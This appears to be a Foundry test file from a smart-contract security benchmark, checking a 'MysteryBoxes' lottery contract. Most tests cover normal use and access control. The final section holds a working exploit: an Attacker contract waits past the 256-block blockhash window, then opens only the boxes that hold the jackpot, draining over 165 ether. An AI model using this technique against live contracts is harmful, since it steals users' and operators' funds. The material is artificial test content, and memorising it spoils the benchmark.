// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./MysteryBoxes.sol";

// assay-canary-b8ddf075-3ff3-42f9-8eaf-d25b40c75fcf

interface Vm {
    function deal(address who, uint256 balance) external;
    function roll(uint256 number) external;
    function warp(uint256 time) external;
    function prank(address sender) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

// keeps boxes of its own, and takes no eth
contract Wallet {
    MysteryBoxes public boxes = new MysteryBoxes();

    function cashOut() external {
        boxes.cashOut(1);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant PLAYER = address(0x6E57);
    uint256 internal constant FIRST = 50_000_000;
    uint256 internal constant START = 1_773_900_000;

    MysteryBoxes internal boxes;
    Attacker internal thief;

    receive() external payable {}

    function setUp() public {
        vm.roll(FIRST);
        vm.warp(START);
        vm.deal(address(this), 600 ether);
        boxes = new MysteryBoxes();
        boxes.fundBank{value: 450 ether}();
        thief = new Attacker(boxes);
        vm.deal(address(thief), 10 ether);
    }

    function test_Regular() public {
        vm.deal(PLAYER, 10 ether);
        vm.prank(PLAYER);
        uint256 id = boxes.buy{value: 10 ether}(20);
        require(boxes.boxesOf(PLAYER).length == 20 && boxes.locked() == 400 ether, "bought");
        vm.prank(PLAYER);
        boxes.gift(id, address(this));
        require(boxes.boxesOf(address(this)).length == 1, "a gift");

        vm.roll(FIRST + 4);
        uint256 roll = boxes.rollOf(id);
        vm.roll(FIRST + 30);
        require(boxes.rollOf(id) == roll, "the same roll");
        uint256 due = boxes.prizeFor(roll);
        uint256 before = address(this).balance;
        require(boxes.open(id) == due && address(this).balance == before + due, "prize");
        require(boxes.prizeFor(0) == 20 ether && boxes.prizeFor(599) == 2 ether && boxes.prizeFor(3_600) == 0, "tiers");

        for (uint256 i = 1; i < 19; ++i) {
            vm.prank(PLAYER);
            boxes.open(id + i);
        }
        vm.roll(FIRST + 1_000_004);
        boxes.retire(id + 19);
        require(boxes.locked() == 0, "nothing locked");
        boxes.cashOut(address(boxes).balance);
        boxes.setOnSale(false);
        require(!boxes.onSale(), "closed");
        boxes.transferOwnership(PLAYER);
        vm.prank(PLAYER);
        boxes.renounceOwnership();
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesStrangers() public {
        bytes memory why = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, PLAYER);
        refuses(PLAYER, why);
        boxes.setOnSale(false);
        refuses(PLAYER, why);
        boxes.cashOut(1);
        refuses(PLAYER, why);
        boxes.retire(1);
        refuses(PLAYER, why);
        boxes.transferOwnership(PLAYER);
        refuses(PLAYER, why);
        boxes.renounceOwnership();
        vm.deal(PLAYER, 1 ether);
        vm.prank(PLAYER);
        uint256 id = boxes.buy{value: 0.5 ether}(1);
        vm.expectRevert(abi.encodeWithSelector(MysteryBoxes.NotYourBox.selector, id));
        boxes.gift(id, address(this));
        vm.expectRevert(abi.encodeWithSelector(MysteryBoxes.SoldOut.selector, 450.5 ether));
        boxes.cashOut(431 ether);
        vm.roll(FIRST + 4);
        vm.expectRevert(abi.encodeWithSelector(MysteryBoxes.NotYourBox.selector, id));
        boxes.open(id);
    }

    function test_RefusesPurchases() public {
        vm.deal(PLAYER, 100 ether);
        refuses(PLAYER, "bad count");
        boxes.buy(0);
        refuses(PLAYER, "bad count");
        boxes.buy{value: 10.5 ether}(21);
        refuses(PLAYER, "wrong price");
        boxes.buy{value: 1 ether}(1);
        vm.prank(PLAYER);
        boxes.buy{value: 10 ether}(20);
        refuses(PLAYER, abi.encodeWithSelector(MysteryBoxes.SoldOut.selector, 462 ether));
        boxes.buy{value: 2 ether}(4);
        boxes.setOnSale(false);
        refuses(PLAYER, "not on sale");
        boxes.buy{value: 0.5 ether}(1);
    }

    function test_RefusesOpened() public {
        uint256 id = boxes.buy{value: 0.5 ether}(1);
        vm.expectRevert(abi.encodeWithSelector(MysteryBoxes.AlreadyOpened.selector, id + 1));
        boxes.retire(id + 1);
        vm.roll(FIRST + 3);
        vm.expectRevert(abi.encodeWithSelector(MysteryBoxes.TooEarly.selector, FIRST + 4));
        boxes.open(id);
        vm.roll(FIRST + 4);
        boxes.open(id);
        vm.expectRevert(abi.encodeWithSelector(MysteryBoxes.AlreadyOpened.selector, id));
        boxes.open(id);
        vm.expectRevert(abi.encodeWithSelector(MysteryBoxes.AlreadyOpened.selector, id));
        boxes.gift(id, PLAYER);
        vm.roll(FIRST + 2_000_000);
        vm.expectRevert(abi.encodeWithSelector(MysteryBoxes.AlreadyOpened.selector, id));
        boxes.retire(id);
        id = boxes.buy{value: 0.5 ether}(1);
        vm.roll(FIRST + 3_000_003);
        vm.expectRevert(abi.encodeWithSelector(MysteryBoxes.TooEarly.selector, FIRST + 3_000_003));
        boxes.retire(id);
        Wallet wallet = new Wallet();
        vm.deal(address(wallet.boxes()), 1 ether);
        vm.expectRevert("eth not taken");
        wallet.cashOut();
    }

    // Boxes bought now are opened more than 256 blocks later, each in a block in which it holds the jackpot.
    function exploit() public {
        thief.stockUp();
        uint256 number = block.number + 300;
        uint256 time = block.timestamp + 15 minutes;
        for (uint256 i = 0; i < 400 && !thief.satisfied(); ++i) {
            vm.roll(number + i);
            vm.warp(time + 3 * i);
            thief.look();
        }
    }

    function test_Exploit() public {
        uint256 before = address(thief).balance;
        exploit();
        require(address(thief).balance >= before + 165 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(boxes);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

// Looks at its boxes once a block and opens those that would hold the jackpot now.
contract Attacker {
    MysteryBoxes internal boxes;
    uint256[] internal ids;

    constructor(MysteryBoxes boxes_) {
        boxes = boxes_;
    }

    receive() external payable {}

    function stockUp() external {
        uint256 first = boxes.buy{value: 10 ether}(20);
        for (uint256 i = 0; i < 20; ++i) {
            ids.push(first + i);
        }
    }

    function satisfied() external view returns (bool) {
        return address(this).balance >= 176 ether;
    }

    function look() external {
        for (uint256 i = ids.length; i > 0; --i) {
            uint256 id = ids[i - 1];
            if (boxes.rollOf(id) >= 50) continue;
            ids[i - 1] = ids[ids.length - 1];
            ids.pop();
            boxes.open(id);
        }
    }
}
